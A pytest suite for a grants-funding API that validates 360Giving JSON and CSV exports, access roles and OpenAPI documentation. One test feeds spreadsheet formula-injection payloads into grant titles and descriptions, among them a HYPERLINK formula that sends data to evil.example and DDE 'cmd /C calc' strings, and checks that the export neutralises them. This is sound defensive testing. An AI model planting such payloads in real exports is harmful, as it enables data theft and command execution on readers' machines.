"""360Giving: the published grants as JSON and CSV, the ten required fields validated; and the API document."""

import csv
import io
from collections.abc import Callable
from typing import Any

import httpx
import pytest

from funding.export.schemas import REQUIRED_FIELDS, required_field_errors

Headers = Callable[..., dict[str, str]]
KNIFE_LINE_2020 = "8cc3a269-e9dd-5f2f-86e5-a4d11f13974d"  # £150,000.00, nothing awarded
MEDWAY_COUNCIL = "09584578-2b27-5431-b8e5-0cf718a55d7a"


def application(title: str, description: str) -> dict[str, Any]:
    return {
        "title": title,
        "description": description,
        "recipient_organisation_id": MEDWAY_COUNCIL,
        "budget_line_id": KNIFE_LINE_2020,
        "amount_applied_pence": 123_450,
        "currency": "GBP",
        "planned_start_on": "2020-07-01",
        "planned_end_on": "2021-03-31",
    }


class TestRequiredFields:
    def valid(self) -> dict[str, Any]:
        return {
            "id": "360G-kmvru-1",
            "title": "T",
            "description": "D",
            "currency": "GBP",
            "amountAwarded": 10.5,
            "awardDate": "2020-06-01",
            "recipientOrganization": [{"id": "GB-CHC-1234567", "name": "R"}],
            "fundingOrganization": [{"id": "GB-GOR-PC000047", "name": "F"}],
        }

    def test_valid(self) -> None:
        assert required_field_errors(self.valid()) == []

    @pytest.mark.parametrize("path", REQUIRED_FIELDS)
    def test_each_is_required(self, path: str) -> None:
        record = self.valid()
        parts = path.split("/")
        if len(parts) == 1:
            record[path] = "" if isinstance(record[path], str) else None
        else:
            record[parts[0]][0][parts[2]] = ""
        assert required_field_errors(record) == [f"{path} is missing"]

    @pytest.mark.parametrize(
        ("change", "error"),
        [
            ({"id": "kmvru-1"}, "360G-"),
            ({"currency": "pounds"}, "currency"),
            ({"amountAwarded": "10"}, "amountAwarded"),
            ({"awardDate": "1 June 2020"}, "awardDate"),
            ({"recipientOrganization": [{"id": "1234567", "name": "R"}]}, "recipientOrganization"),
        ],
    )
    def test_invalid(self, change: dict[str, Any], error: str) -> None:
        errors = required_field_errors({**self.valid(), **change})
        assert len(errors) == 1
        assert error in errors[0]


class TestExportJson:
    async def test_anonymous(self, client: httpx.AsyncClient) -> None:
        assert (await client.get("/v1/exports/360giving.json")).status_code == 401

    async def test_forbidden(self, client: httpx.AsyncClient, as_role: Headers) -> None:
        refused = await client.get("/v1/exports/360giving.json", headers=as_role("guardian"))
        assert refused.status_code == 403
        assert refused.json()["type"].endswith("/forbidden")

    async def test_seeded_grants_pass_validation(self, client: httpx.AsyncClient, as_role: Headers) -> None:
        response = await client.get("/v1/exports/360giving.json", headers=as_role("partner_agency"))
        assert response.status_code == 200
        grants = response.json()["grants"]
        assert len(grants) == 31  # 3 in 2019/20 and 28 in 2020/21
        for grant in grants:
            assert required_field_errors(grant) == [], grant["id"]
            assert grant["id"].startswith("360G-kmvru-")
        sheppey = next(g for g in grants if g["title"] == "Sheppey Matters 2020/21")
        assert sheppey == sheppey | {
            "currency": "GBP",
            "amountAwarded": 12000.0,
            "awardDate": "2020-06-01",
            "plannedDates": [{"startDate": "2020-07-01", "endDate": "2021-03-31"}],
            "recipientOrganization": [{"id": "GB-CHC-9000003", "name": "Sheppey Matters"}],
            "grantProgramme": [
                {"code": "vulnerable-childrens-charities", "title": "Vulnerable Children's Charities fund"}
            ],
            "beneficiaryLocation": [{"name": "Swale", "geoCode": "E07000113", "geoCodeType": "LAD"}],
        }
        assert "regrantType" not in sheppey

    async def test_year_filter(self, client: httpx.AsyncClient, as_role: Headers) -> None:
        response = await client.get("/v1/exports/360giving.json?financial_year=2019-20", headers=as_role("director"))
        assert {g["awardDate"] for g in response.json()["grants"]} == {"2019-11-15"}


class TestExportCsv:
    async def test_valid(self, client: httpx.AsyncClient, as_role: Headers) -> None:
        response = await client.get("/v1/exports/360giving.csv?financial_year=2020-21", headers=as_role("analyst"))
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        assert "attachment" in response.headers["content-disposition"]
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert len(rows) == 28
        sheppey = next(r for r in rows if r["Title"] == "Sheppey Matters 2020/21")
        assert sheppey == sheppey | {
            "Currency": "GBP",
            "Amount Awarded": "12000.00",
            "Award Date": "2020-06-01",
            "Recipient Org:Identifier": "GB-CHC-9000003",
            "Funding Org:Identifier": "GB-GOR-PC000047",
            "Beneficiary Location:Geographic Code": "E07000113",
        }
        countywide = next(r for r in rows if r["Title"] == "StreetSoccer 2020/21")
        assert countywide["Beneficiary Location:Name"] == "Kent and Medway"
        assert all(r["Identifier"].startswith("360G-") and r["Title"] and r["Description"] for r in rows)

    async def test_formulas_are_neutralised(
        self, client: httpx.AsyncClient, officer: dict[str, str], director: dict[str, str]
    ) -> None:
        """Issue 13: a title or description a spreadsheet would run as a formula is written with a leading
        apostrophe; the amount stays a number."""
        hostile = {
            "=": ('=HYPERLINK("https://evil.example/?d="&A2,"Grant")', "=1+1 workshops"),
            "+": ("+Medway workshops", "+44 1634 000000+cmd|' /C calc'!A0"),
            "-": ("-Medway workshops", "-2+3 sessions"),
            "@": ("@SUM(1+1) workshops", "@SUM(1+1)*cmd|' /C calc'!A0"),
        }
        for title, description in hostile.values():
            grant = (await client.post("/v1/grants", json=application(title, description), headers=officer)).json()
            for headers, body in (
                (officer, {"to": "submitted"}),
                (officer, {"to": "in_review"}),
                (director, {"to": "approved", "award_date": "2020-06-15"}),
            ):
                response = await client.post(
                    f"/v1/grants/{grant['id']}/transitions",
                    json=body,
                    headers={**headers, "If-Match": f'"v{grant["version"]}"'},
                )
                assert response.status_code == 200, response.text
                grant = response.json()
        response = await client.get("/v1/exports/360giving.csv?financial_year=2020-21", headers=officer)
        assert response.status_code == 200
        rows = {r["Title"]: r for r in csv.DictReader(io.StringIO(response.text))}
        for title, description in hostile.values():
            row = rows["'" + title]
            assert row["Description"] == "'" + description
            assert row["Amount Awarded"] == "1234.50"
        for row in rows.values():
            for column, value in row.items():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)

    async def test_forbidden(self, client: httpx.AsyncClient, as_role: Headers) -> None:
        refused = await client.get("/v1/exports/360giving.csv", headers=as_role("guardian"))
        assert refused.status_code == 403
        assert refused.json()["type"].endswith("/forbidden")


class TestOpenAPI:
    async def test_every_operation_documented(self, client: httpx.AsyncClient) -> None:
        document = (await client.get("/openapi/funding.json")).json()
        operations = [
            (path, method, operation)
            for path, methods in document["paths"].items()
            for method, operation in methods.items()
            if path.startswith("/v1/")
        ]
        assert len(operations) >= 40
        for path, method, operation in operations:
            where = f"{method.upper()} {path}"
            assert operation["summary"], where
            assert operation["description"], where
            assert operation["security"] == [{"HTTPBearer": []}], where
            errors = {code for code in operation["responses"] if code.startswith(("4", "5"))}
            assert {"401", "403"} <= errors, where
            for code in errors:
                assert "application/problem+json" in operation["responses"][code]["content"], where
            if method == "patch":
                assert {"412", "428"} <= errors, where
        schemas = document["components"]["schemas"]
        for name in ("GrantRead", "BudgetLineRead", "AllocationRead", "SpendCreate", "AllocationCreate", "Totals"):
            assert schemas[name].get("examples"), name
